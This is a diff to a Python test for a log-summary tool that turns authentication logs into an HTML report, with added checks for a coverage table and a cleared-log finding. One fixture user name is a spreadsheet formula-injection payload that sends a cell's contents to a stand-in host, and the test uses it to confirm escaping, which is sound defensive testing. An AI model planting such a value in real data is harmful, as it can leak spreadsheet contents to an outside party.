@@ -1,7 +1,7 @@
 #!/usr/bin/python3
 """badcreds summary --html: one self-contained page (no script, no external resource, a policy forbidding both),
-every text from the logs escaped (a user name shaped like a formula or markup stays text), the chart and the
-tables present; and it renders in headless Chromium (Debian's chromium) to a screenshot.
+every text from the logs escaped (a user name shaped like a formula or markup stays text), the coverage table first,
+the chart and the tables present, a cleared log shown in the coverage and as the first finding; and it renders in headless Chromium (Debian's chromium) to a screenshot.
 
 The page is rendered at a desktop width (1400 px, OUT_PNG) and at a phone's (390 px, OUT_PNG with -phone): its
 DOM as Chromium builds it must lead with the verdict naming the compromised account, and the chart must label its
@@ -57,8 +57,19 @@ def main():
         check('the hostile user name is text, escaped', '=HYPERLINK("http://x.example/?"&A1)@contoso.com' in text and
               'HYPERLINK(&quot;' in doc)
         check('chart, findings, the lockouts, the chart\'s figures and both tables', parsed.tags.count('svg') == 1 and
-              parsed.tags.count('rect') >= 3 and parsed.tags.count('table') == 4 and 'password_spray' in text and
+              parsed.tags.count('rect') >= 3 and parsed.tags.count('table') == 5 and 'password_spray' in text and
               'stale_credential' in text and 'Account lockouts' in text and 'jean-luc' in text)
+        check('the coverage table first: a row per server and log, AD FS audit level', doc.index('<h2>Coverage') <
+              doc.index('<h2>Attempts') and doc.count('<tr><td>') >= 4 and
+              '<tr><td>ADFS-OLD.fabrikam.fr</td><td>Security</td>' in doc and '<td>verbose</td>' in doc)
+        cleared = os.path.join(tmp, 'cleared.html')
+        p = subprocess.run([BADCREDS, 'summary', '-q', '--html', cleared, files[0], os.path.join(FIX, 'COV-FS-CLEARED.evtx')],
+                           stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, check=False)
+        page2 = open(cleared, encoding='utf-8').read() if os.path.exists(cleared) else ''
+        check('a cleared log: in the coverage table and the first finding; the page written, exit 1',
+              p.returncode == 1 and b'cleared' in p.stderr and
+              'Security by CONTOSO\\mallory</b>' in page2 and
+              page2.index('<b>log_cleared</b> FS-CLEARED.contoso.com') < page2.index('<b>brute_force</b>'))
         chromium = shutil.which('chromium')
         if not chromium:
             print('SKIP: chromium is not installed (apt-get install chromium); the page was not rendered')
